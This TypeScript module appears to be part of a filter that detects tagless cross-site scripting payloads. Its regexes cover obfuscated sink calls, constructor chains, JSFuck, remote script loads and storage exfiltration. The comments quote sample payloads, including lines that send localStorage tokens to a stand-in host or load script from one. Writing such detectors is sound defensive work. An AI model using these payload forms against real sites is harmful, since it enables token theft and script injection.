import { noteReaderCap } from './reader-caps';
import { decodeJsEscapes } from '../decode/escapes';

/**
 * JavaScript run without a tag, as a script context reads it: calls through a computed property
 * of a global object (`frames['al'+'ert'](1)`, `this[/al/.source+/ert/.source](1)`,
 * `window[atob('...')]()`), constructor chains (`[].constructor.constructor('code')()`), and
 * JSFuck (code written only with `[]()!+`). Each form is one a page's own code never needs for
 * calling a function by a name computed from strings.
 */
const GLOBAL_OBJECT = '(?:window|self|top|parent|frames|this|globalThis|opener|content|document|navigator|location)';
/**
 * Optional chaining (`window?.['alert']?.(1)`) reaches and calls the same member as `window['alert'](1)`.
 * `global[ <string, template, regex source, atob/fromCharCode, a concatenation, or a number spelled in
 * another base: `8680439..toString(30)` is "alert"> ]` then a call.
 */
const COMPUTED_CALL = new RegExp(
  `(?:^|[^\\w$.])${GLOBAL_OBJECT}\\s*(?:\\?\\.\\s*)?\\[\\s*(?:['"\`/]|atob\\s*\\(|String\\s*\\.\\s*fromCharCode|unescape\\s*\\(|decodeURI|[\\w$]+\\s*\\+|\\(|!|(?=\\[)|\\d+\\s*\\.\\.?\\s*toString\\s*\\()(?:[^[\\]\\n]|\\[[^[\\]\\n]{0,80}\\]){0,300}\\]\\s*(?:\\?\\.\\s*)?(?:\\(|\`|\\.\\s*(?:call|apply|bind)\\s*\\()`,
);
/** A string-built name: pieces of a sink's name concatenated or taken from regex sources. */
const BUILT_NAME = /\/\w{1,12}\/\s*\.\s*source\b|(['"`])[a-z]{1,6}\1\s*\+\s*(['"`])[a-z]{1,6}\2/i;
/**
 * `x.constructor.constructor(` is the Function constructor reached from any value, called with
 * parentheses or as a tag (`` ''.constructor.constructor`code`() ``: the template's strings become the body); bare
 * `constructor.constructor(...)` (the scope's own object, as template sandboxes give it) counts with a
 * string or when what it builds is called at once (`constructor.constructor(name)()`).
 */
const CONSTRUCTOR_CHAIN =
  /\.\s*constructor\s*(?:\.\s*constructor\s*|\[\s*['"`]constructor['"`]\s*\]\s*)[(`]|\[\s*['"`]constructor['"`]\s*\]\s*\[\s*['"`]constructor['"`]\s*\]|\bconstructor\s*\.\s*constructor\s*\(\s*(?:['"`]|(?:[^()\n]|\([^()\n]{0,40}\)){1,60}\)\s*\()/;
const JSFUCK_CHARS = /[[\]()!+]/g;
const FORM_NAME_PREFIX = /^[\w.-]{1,40}=/;

/**
 * A sink function given another name (`a=eval;b=alert;a(b(1))`, `_=eval,__=unescape`, a handler in a
 * block `{onerror=alert}throw 1`): code about to call it indirectly.
 */
const SINK_ALIAS = /=\s*(?:eval|alert|prompt|confirm|execScript|unescape|Function|setTimeout|setInterval)\s*(?:[;,}\n]|$)/;
/** What stands left of SINK_ALIAS's `=`: a bare variable name (not `a.b=eval`, not `==`). */
const ALIAS_NAME = /(?:^|[;,{(\s'"])[\w$]{1,20}\s*$/;
/** A sink called with a comment between name and parenthesis (`eval/**\/(...)`). */
const COMMENTED_CALL = /(?:^|[^\w$.])(?:eval|alert|prompt|confirm|Function|setTimeout|setInterval)\s*\/\*[^*]{0,40}\*\/\s*\(/;

/**
 * A sink reached as a member of the global object and called (`window.alert(1)`, `top.eval('...')`,
 * ``self.confirm`1` ``): the same function as `alert(1)`, written so that a filter looking for the
 * name after a non-name character misses it. `dialog.confirm(...)` of an application's own object
 * is not one. The global may be reached through other windows first (`window.frames[0].alert(1)`,
 * `top.opener.eval(...)`), which are windows with the same members.
 */
const GLOBAL_SINK_CALL =
  /(?:^|[^\w$.])(?:window|self|top|parent|frames|globalThis|opener)(?:\s*(?:\.\s*(?:frames|parent|top|opener|self|window)\b|\[\s*(?:\d{1,3}|0x[0-9a-f]{1,2})\s*\]))*\s*\.\s*(?:alert|confirm|prompt|eval|execScript)\s*(?:\((?!\s*$)|`)/;
/**
 * A sink handed to what calls it (`[1].find(alert)`, `Reflect.apply(alert,null,[1])`,
 * `'alert(1)'.replace(/.+/,eval)`, `setTimeout(alert)`, `addEventListener('load',alert)`, `new
 * Promise(alert)`, whose executor is called at once), or made the
 * getter or conversion of an object (`{get:alert}`, `{valueOf:alert}`): the call is never written, so
 * no filter sees `alert(`. An application's code hands its own functions (`.then(render)`), not the
 * dialogs or eval.
 */
const SINK_AS_CALLBACK =
  /(?:\.\s*(?:map|flatMap|find|findIndex|findLast|forEach|filter|some|every|reduce|reduceRight|sort|then|catch|finally|replace|replaceAll|call|apply|bind|from|addEventListener)|(?:^|[^\w$.])(?:Reflect\s*\.\s*apply|setTimeout|setInterval|requestAnimationFrame|queueMicrotask|addEventListener|new\s+Promise))\s*\(\s*(?:[^,()\n]{0,60},\s*)?(?:(?:window|self|top|parent|globalThis)\s*\.\s*)?(?:alert|confirm|prompt|eval)\s*[,)]|[{,]\s*(?:get|set|valueOf|toString|handleEvent)\s*:\s*(?:alert|confirm|prompt|eval)\s*[,}]/;

/**
 * The window given another name, then a sink called as its member (`w=top;w.alert(1)`,
 * `x=self,x.eval(name)`): GLOBAL_SINK_CALL's call with the global's name out of sight.
 */
const WINDOW_ALIAS =
  /(?:^|[^\w$.])([A-Za-z_$][\w$]{0,20})\s*=\s*(?:window|self|top|parent|frames|globalThis|opener)\s*(?:[;,\n]|$)/;
function callsSinkOfAliasedWindow(s: string): boolean {
  const m = WINDOW_ALIAS.exec(s);
  if (m === null) return false;
  const call = new RegExp(
    `(?:^|[^\\w$.])${m[1].replace(/\$/g, '\\$')}\\s*\\.\\s*(?:alert|confirm|prompt|eval|execScript)\\s*(?:\\((?!\\s*$)|\`)`,
  );
  return call.test(s.slice(m.index + m[0].length));
}

/**
 * A global indexed by a variable that the value assigned a sink's name, then called
 * (`x="alert";window[x](1)`, `n='ev'+'al';self[n]('...')` is BUILT_NAME's): the name is never next to
 * the call. `handlers[name](e)` of ordinary code indexes its own table, not the global object.
 */
const VARIABLE_INDEXED_CALL = new RegExp(
  `(?:^|[^\\w$.])${GLOBAL_OBJECT}\\s*\\[\\s*([A-Za-z_$][\\w$]{0,20})\\s*\\]\\s*(?:\\(|\`)`,
);
function callsAssignedSink(s: string): boolean {
  const m = VARIABLE_INDEXED_CALL.exec(s);
  if (m === null) return false;
  const assigned = new RegExp(
    `(?:^|[^\\w$.])${m[1].replace(/\$/g, '\\$')}\\s*=\\s*(['"\`])\\s*(?:alert|confirm|prompt|eval|execScript)\\s*\\1`,
  );
  return assigned.test(s);
}
/**
 * Navigation to what the attacker controls in the page (`location=location.hash.slice(1)`,
 * `location.href=document.referrer`): a `javascript:` URL sent in the fragment runs.
 */
const NAVIGATION_FROM_SOURCE =
  /(?:^|[^\w$.])(?:(?:window|self|top|document)\s*\.\s*)?location(?:\s*\.\s*href)?\s*=(?!=)\s*(?:(?:window|self|top|document)\s*\.\s*)?(?:location\s*\.\s*(?:hash|search)|referrer|decodeURI(?:Component)?\s*\(\s*location|unescape\s*\(\s*location)/;
/**
 * Browser storage concatenated into a URL or handed to a beacon (`'//evil.example/?'+localStorage.token`,
 * `sendBeacon('//x',sessionStorage.getItem('t'))`): tokens sent to another host, the payload of a
 * script that needs no cookie.
 */
const STORAGE_EXFILTRATION =
  /['"`]\s*\+\s*(?:window\s*\.\s*)?(?:localStorage|sessionStorage)\b|sendBeacon\s*\([^)]{0,200}\b(?:localStorage|sessionStorage|document\s*\.\s*cookie)\b/;

/**
 * Script loaded from another host by a scheme-relative or data URL (`import('//evil.example/x.js')`,
 * `$.getScript('//x/a.js')`, `importScripts('data:...')`): a page's own code loads its modules by a
 * path (`import('./module.js')`).
 */
const REMOTE_SCRIPT_LOAD =
  /(?:^|[^\w$.])(?:import|importScripts|(?:\$|jQuery)\s*\.\s*getScript)\s*\(\s*['"`]\s*(?:\/\/|\\\\|data:)/;

/**
 * A number indexed by a computed name then called (`1[__+_](x)`, `0[this.x](this.y)`): no page code
 * calls methods of a literal that way. Digits after `%` are an escape's, not a number: a Markdown
 * link sent unencoded in a path, `-%20[.name](%23name)`, as sent (branch i18-pathraw2).
 */
const LITERAL_COMPUTED_CALL = /(?:^|[^\w$.\]%])\d+\s*\[[^\]\n]{0,50}[+'"`.][^\]\n]{0,50}\]\s*\(/;
/**
 * A sink called with what the attacker controls in the page (`setTimeout(location.search.slice(1))`,
 * `eval(name)`, `eval(location.hash.substr(1))`, `document.write(document.referrer)`).
 */
const SINK_FED_BY_SOURCE =
  /(?:^|[^\w$.])(?:eval|setTimeout|setInterval|Function|execScript|open|document\s*\.\s*write(?:ln)?)\s*\(\s*(?:(?:window|self|top|parent|document)\s*\.\s*)?(?:location\s*\.\s*(?:hash|search|href)|name\s*[),]|referrer|URL\b|decodeURI(?:Component)?\s*\(\s*location|unescape\s*\(\s*location|atob\s*\(\s*location)/;

export function isTaglessScript(s: string): boolean {
  // Each form needs a character most values lack: one cheap look before each pattern.
  const bracket = s.includes('[');
  if (
    bracket &&
    (COMPUTED_CALL.test(s) || isJsFuck(s) || (BUILT_NAME.test(s) && /\]\s*\(|\)\s*\(/.test(s)) || LITERAL_COMPUTED_CALL.test(s))
  )
    return true;
  if (s.includes('constructor') && CONSTRUCTOR_CHAIN.test(s)) return true;
  if (s.includes('(') && (SINK_FED_BY_SOURCE.test(s) || SINK_AS_CALLBACK.test(s))) return true;
  if (s.includes('.') && (GLOBAL_SINK_CALL.test(s) || callsSinkOfAliasedWindow(s))) return true;
  if (s.includes('(') && REMOTE_SCRIPT_LOAD.test(s)) return true;
  if (bracket && callsAssignedSink(s)) return true;
  if (s.includes('location') && NAVIGATION_FROM_SOURCE.test(s)) return true;
  if (s.includes('Storage') && STORAGE_EXFILTRATION.test(s)) return true;
  if ((s.includes("'") || s.includes('"') || s.includes('source')) && (spellsSink(s) || joinsSinkFromVariables(s))) return true;
  if (s.includes('\\') && bracket && s.includes('(') && hasEscapedSinkName(s)) return true;
  return (s.includes('=') && sinkAlias(s)) || (s.includes('/*') && COMMENTED_CALL.test(s));
}

/** The pieces a script joins into names: string literals, regex sources, and `<s>text</s>` E4X literals. */
const PIECE = /'([^'\\\n]{0,40})'|"([^"\\\n]{0,40})"|\/(\w{1,12})\/\s*\.\s*source\b|<(\w{1,3})>([^<>]{0,20})<\/\4>/g;
/** Names a script only builds from pieces to hide them. */
const SINK_NAME =
  /eval|alert|prompt|confirm|javascript|fromcharcode|constructor|cookie|settimeout|setinterval|innerhtml|outerhtml|execscript|unescape|atob|location/;
/** Pieces read per value: payloads built from pieces need a few dozen. */
export const MAX_SCRIPT_PIECES = 64;

/**
 * Strings that spell a sink's name only once joined (`'ev'+'al'`, `s1='jav';s2='ascr';s3='ipt:'`,
 * `/al/.source+/ert/.source`, `''+<_>ev</_>+<_>al</_>`), which no single piece spells: code that
 * hides what it calls. Text quoting words ("it's 'eval' time") has the name inside one piece.
 */
function spellsSink(s: string): boolean {
  PIECE.lastIndex = 0;
  const pieces: string[] = [];
  let m: RegExpExecArray | null;
  while ((m = PIECE.exec(s)) !== null) {
    if (pieces.length >= MAX_SCRIPT_PIECES) {
      noteReaderCap();
      break;
    }
    const p = m[1] ?? m[2] ?? m[3] ?? m[5] ?? '';
    if (p !== '') pieces.push(p.toLowerCase());
  }
  // A JSON list of words (`["java","script"]`) is data, not code joining them.
  if (pieces.length < 2 || !/[+?|&]/.test(s) || isJsonDocument(s)) return false;
  const joined = SINK_NAME.exec(pieces.join(''));
  return joined !== null && !pieces.some((p) => p.includes(joined[0]));
}

/**
 * Pieces kept in variables, then joined by naming the variables (`k='loca',g='tion.h',f='ash',d=(k)+(g)+(f)`,
 * `s1=0?'1':'jav'; s2=0?'1':'ascr'; ...; i2=s1+s2+s3`): the sink's name is in no literal and no
 * literal is next to another. Read left to right as the script runs: a variable holds the last
 * string of its assignment (the branch a constant condition takes); a sum of variables only
 * joins what they hold.
 */
const ASSIGNMENT = /([A-Za-z_$][\w$]{0,20})\s*\+?=(?!=)([^;,\n]{0,200})/g;
// Each blank run has one place to go (a blank before `)` or `+` is the name's, after it the sign's),
// so the test is linear (test/unit/security/regex-safety.test.ts).
const VARIABLE_SUM = /^\s*(?:\(\s*)?[A-Za-z_$][\w$]{0,20}\s*(?:\)\s*)?(?:\+\s*(?:\(\s*)?[A-Za-z_$][\w$]{0,20}\s*(?:\)\s*)?)+$/;
const LAST_STRING = /(['"])([^'"\\\n]{0,40})\1\s*\)?\s*$/;
function joinsSinkFromVariables(s: string): boolean {
  if (!s.includes('+')) return false;
  const held = new Map<string, string>();
  ASSIGNMENT.lastIndex = 0;
  let m: RegExpExecArray | null;
  for (let n = 0; (m = ASSIGNMENT.exec(s)) !== null; n++) {
    if (n >= MAX_SCRIPT_PIECES) {
      noteReaderCap();
      return false;
    }
    const rhs = m[2];
    if (VARIABLE_SUM.test(rhs)) {
      const names = rhs.match(/[A-Za-z_$][\w$]*/g) ?? [];
      if (!names.every((v) => held.has(v))) continue;
      const pieces = names.map((v) => (held.get(v) as string).toLowerCase());
      const joined = SINK_NAME.exec(pieces.join(''));
      if (joined !== null && !pieces.some((p) => p.includes(joined[0]))) return true;
      held.set(m[1], pieces.join(''));
      continue;
    }
    const last = LAST_STRING.exec(rhs);
    if (last !== null) held.set(m[1], last[2]);
  }
  return false;
}

/**
 * A string that spells a sink's name only once its escapes are read (`"ev\a\l"`, `'\x61lert'`,
 * `"const\ructor"`), used in code that indexes and calls: an escape before an ordinary letter does
 * nothing in JavaScript, and no page writes a function's name in escapes but to hide it.
 */
const ESCAPED_STRING = /(['"`])((?:[^'"`\\\n]|\\[^\n]){0,60}?)\1/g;
const ESCAPED_SINK =
  /^(?:eval|alert|prompt|confirm|constructor|call|apply|cookie|settimeout|setinterval|fromcharcode|execscript|javascript:.*)$/;
function hasEscapedSinkName(s: string): boolean {
  ESCAPED_STRING.lastIndex = 0;
  let m: RegExpExecArray | null;
  for (let n = 0; (m = ESCAPED_STRING.exec(s)) !== null && n < MAX_SCRIPT_PIECES; n++) {
    const raw = m[2];
    if (!raw.includes('\\')) continue;
    // The decoder's reading of `\u`/`\x` escapes (../decode/escapes.ts): a code point past U+10FFFF
    // is U+FFFD there, where String.fromCodePoint threw and lost the whole request's detection.
    const read = decodeJsEscapes(raw)
      // Escapes with a meaning of their own (`\n`, `\t`, `\v`, `\b`, `\f`, `\r`, `\0`) are not the letter.
      .replace(/\\([^nrtvbf0-9ux])/gi, '$1');
    if (!read.includes('\\') && ESCAPED_SINK.test(read.toLowerCase())) return true;
  }
  return false;
}

/**
 * Code written with symbols and coercions of empty literals, the JSFuck family (jjencode
 * `$=~[];$={___:++$,$$$$:(![]+"")[$],...}`, `_=[]+{},$=_[1]`): `![]`, `~[]`, `[]+{}` or `(![]+"")`
 * turn nothing into the letters of "false" or "[object Object]" to index; data never coerces an empty
 * list. Needs one coercion and a value whose characters are mostly symbols and `$`/`_` names.
 */
const EMPTY_COERCION = /[!~+]\s*\[\s*\]|\[\s*\]\s*\+\s*(?:\{\s*\}|""|'')|\{\s*\}\s*\+\s*\[\s*\]|\(\s*!\s*\[\s*\]\s*\+/;
function isSymbolCode(s: string): boolean {
  if (s.length < 16 || !EMPTY_COERCION.test(s)) return false;
  const dense = s.replace(/\s+/g, '');
  const alnum = dense.match(/[A-Za-z0-9]/g)?.length ?? 0;
  return alnum * 5 <= dense.length && /[=\]]/.test(dense);
}

function sinkAlias(s: string): boolean {
  const m = SINK_ALIAS.exec(s);
  return m !== null && ALIAS_NAME.test(s.slice(Math.max(0, m.index - 24), m.index));
}

/**
 * At least 24 characters of which nine in ten are `[]()!+`, with the `![]`/`+[]` coercions JSFuck is
 * made of; or a short value made only of JSFuck's characters with a coercion (`+!![]`, `(+{}+[])`):
 * `[]` or `{}` alone (empty JSON) has none.
 */
function isJsFuck(s0: string): boolean {
  // Sent raw in a form or an untyped body (`a=(![]+[])[+!+[]]`): after its name, its `+` read as spaces.
  const s = s0.replace(FORM_NAME_PREFIX, '');
  // First and last character not a space, so each run of spaces is read one way (linear on any input).
  if (s.length < 64 && /^\s*[[\](){}!+][[\](){}!+ ]{2,}[[\](){}!+]\s*$/.test(s) && /[!+](?:\[\]|\{\})/.test(s)) return true;
  if (s.length >= 24 && /!\[\]|\+\[\]/.test(s)) {
    const n = s.match(JSFUCK_CHARS)?.length ?? 0;
    if (n * 10 >= s.replace(/\s/g, '').length * 9) return true;
  }
  return isSymbolCode(s);
}

function isJsonDocument(s: string): boolean {
  const t = s.trim();
  if (!/^[[{]/.test(t)) return false;
  try {
    JSON.parse(t);
    return true;
  } catch {
    return false;
  }
}
